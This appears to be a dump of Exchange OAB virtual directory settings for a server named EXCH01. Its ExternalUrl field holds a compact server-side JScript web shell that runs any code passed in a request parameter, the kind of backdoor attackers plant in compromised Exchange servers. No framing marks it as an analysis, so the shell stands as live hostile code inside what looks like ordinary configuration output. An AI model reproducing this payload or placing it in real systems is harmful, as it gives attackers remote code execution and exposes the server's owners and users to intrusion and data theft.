AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
InternalUrl                     : https://exch01.contoso.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["9i5y2j6x1"],"unsafe");}</script>
Server                          : EXCH01
